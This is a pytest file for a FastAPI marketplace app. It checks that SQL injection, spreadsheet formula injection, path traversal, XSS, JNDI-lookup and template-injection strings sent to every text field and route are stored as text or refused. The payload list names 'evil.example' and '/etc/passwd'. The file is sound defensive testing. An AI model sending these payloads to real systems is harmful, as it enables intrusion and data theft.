"""What is meant for the database, a spreadsheet, a browser or a file system stays text, in every text field
of every route; on both databases."""

import csv
import io
import json
from collections.abc import Generator
from copy import deepcopy
from pathlib import Path
from typing import Any, cast

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from stalls import LAPTOP, STALL, Headers, bearer, market_app, put_up, register

EVIL = (
    "'; DROP TABLE products; --",
    "' OR '1'='1",
    '" UNION SELECT password_hash FROM users --',
    "%' AND 1=CAST((SELECT 1) AS INT) --",
    "\\'; SELECT pg_sleep(9); --",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
)
SILENT = ("/api/products/ai-search", "/api/chat", "/api/products/{product_id}/stock")
"""Their answers don't repeat what was said."""
PASSWORD = "kopi tubruk 7"  # noqa: S105  made up
ACCOUNT = {"name": "Sari", "email": "sari@example.com", "password": PASSWORD}


@pytest.fixture
def app(database_url: str, tmp_path: Path) -> FastAPI:
    return market_app(
        database_url,
        tmp_path,
        registrations_per_minute=10_000,
        logins_per_minute=10_000,
        guest_requests_per_minute=10_000,
    )


@pytest.fixture
def market(app: FastAPI) -> Generator[TestClient]:
    with TestClient(app) as client:
        yield client


@pytest.fixture
def key(market: TestClient) -> Headers:
    return register(market)[1]


def text_fields(app: FastAPI) -> set[tuple[str, str, str]]:
    """(method, path, field) of all text in the bodies that the app describes."""
    description = app.openapi()
    found: set[tuple[str, str, str]] = set()
    for path, operations in description["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            schema = content.get("application/json", {}).get("schema", {})
            if name := schema.get("$ref", "").rpartition("/")[2]:
                fields = description["components"]["schemas"][name].get("properties", {})
                found |= {(method.upper(), path, field) for field, one in fields.items() if is_text(one)}
    return {one for one in found if one[1].startswith("/api/")}


def is_text(schema: dict[str, Any]) -> bool:
    choices = schema.get("anyOf", [schema])
    return any(one.get("type") == "string" and "enum" not in one for one in choices)


def bodies(market: TestClient, key: Headers) -> dict[tuple[str, str], tuple[str, Headers, dict[str, Any]]]:
    """(path, headers, a good body) for each route that takes text."""
    product = put_up(market, key)
    stall = market.get(f"/api/products/{product}").json()["supplier"]["id"]
    market.post("/api/users/register", json=ACCOUNT).raise_for_status()
    login = {"email": ACCOUNT["email"], "password": PASSWORD}
    user = bearer(market.post("/api/auth/login", json=login).raise_for_status().json()["access_token"])
    new = {"old_password": PASSWORD, "new_password": PASSWORD}
    return {
        ("POST", "/api/suppliers/register"): ("/api/suppliers/register", {}, STALL),
        ("PUT", "/api/suppliers/{supplier_id}"): (f"/api/suppliers/{stall}", key, STALL),
        ("PATCH", "/api/suppliers/{supplier_id}"): (f"/api/suppliers/{stall}", key, {}),
        ("POST", "/api/products"): ("/api/products", key, LAPTOP),
        ("PUT", "/api/products/{product_id}"): (f"/api/products/{product}", key, LAPTOP),
        ("PATCH", "/api/products/{product_id}"): (f"/api/products/{product}", key, {}),
        ("POST", "/api/products/{product_id}/stock"): (f"/api/products/{product}/stock", key, {"delta": 1}),
        ("POST", "/api/users/register"): ("/api/users/register", {}, ACCOUNT),
        ("PATCH", "/api/users/me"): ("/api/users/me", user, {}),
        ("PUT", "/api/users/me/password"): ("/api/users/me/password", user, new),
        ("PATCH", "/api/users/{user_id}"): ("/api/users/nobody", user, {}),
        ("PUT", "/api/delivery/services/{slug}"): ("/api/delivery/services/regular", user, {}),
        ("POST", "/api/auth/login"): ("/api/auth/login", {}, login),
        ("POST", "/api/auth/refresh"): ("/api/auth/refresh", {}, {}),
        ("POST", "/api/chat"): ("/api/chat", {}, {"message": "laptop"}),
        ("POST", "/api/products/ai-search"): ("/api/products/ai-search", {}, {"query": "laptop"}),
    }


def test_every_text_field_takes_it_as_text_or_refuses_it(
    app: FastAPI, market: TestClient, key: Headers
) -> None:
    good = bodies(market, key)
    fields = text_fields(app)
    assert len(fields) > 30
    assert {(method, path) for method, path, _ in fields} <= set(good)
    for number, (method, path, field) in enumerate(sorted(fields)):
        address, headers, body = good[method, path]
        for evil in EVIL:
            sent = deepcopy(body) | {field: evil}
            if (method, path) == ("POST", "/api/products") and field != "sku":
                sent["sku"] = f"S-{number}-{EVIL.index(evil)}"
            told = market.request(method, address, headers=headers, json=sent)
            assert told.status_code in {200, 201, 204, 401, 403, 404, 409, 422}, (path, field, told.text)
            if told.status_code in {200, 201} and path not in SILENT:
                assert evil in texts(told.json()), (path, field, told.text)
    assert market.get("/api/products/search", params={"q": "laptop"}).status_code == 200
    assert market.get("/api/suppliers").json()["items"]


def texts(value: object) -> set[str]:
    """All text in a JSON value."""
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return {text for one in cast("dict[str, object]", value).values() for text in texts(one)}
    if isinstance(value, list):
        return {text for one in cast("list[object]", value) for text in texts(one)}
    return set()


@pytest.mark.parametrize("evil", EVIL)
def test_queries_and_paths_find_nothing_that_is_not_there(
    market: TestClient, key: Headers, evil: str
) -> None:
    put_up(market, key)
    for path, parameter in (
        ("/api/products/search", "q"),
        ("/api/products/search", "category"),
        ("/api/products/search", "cursor"),
        ("/api/products/search", "location"),
        ("/api/suppliers", "cursor"),
        ("/api/suppliers", "location"),
    ):
        told = market.get(path, params={parameter: evil})
        assert told.status_code in {200, 400, 422}, (path, parameter, told.text)
    for path in ("/static/", "/api/products/", "/api/suppliers/", "/api/conversations/", "/api/chat/"):
        told = market.get(f"{path}{evil}")
        assert told.status_code in {401, 404, 405, 422}, (path, told.text)
        assert "root:" not in told.text


def test_no_exported_cell_is_a_formula_and_each_reads_back(market: TestClient, key: Headers) -> None:
    for number, evil in enumerate(EVIL):
        put_up(
            market, key, sku=f"E-{number}", name=evil, description=evil, brand=evil, tags=[evil.lower()[:50]]
        )
    told = market.get("/api/products/export", params={"format": "csv"}, headers=key)
    rows = list(csv.reader(io.StringIO(told.text)))
    assert len(rows) == len(EVIL) + 1
    assert [cell for row in rows for cell in row if cell[:1] in set("=+-@\t\r")] == []
    again = market.post(
        "/api/products/import", content=told.content, headers=key | {"Content-Type": "text/csv"}
    )
    report = again.json()
    assert (report["unchanged"], report["failed"]) == (len(EVIL), 0), json.dumps(report)
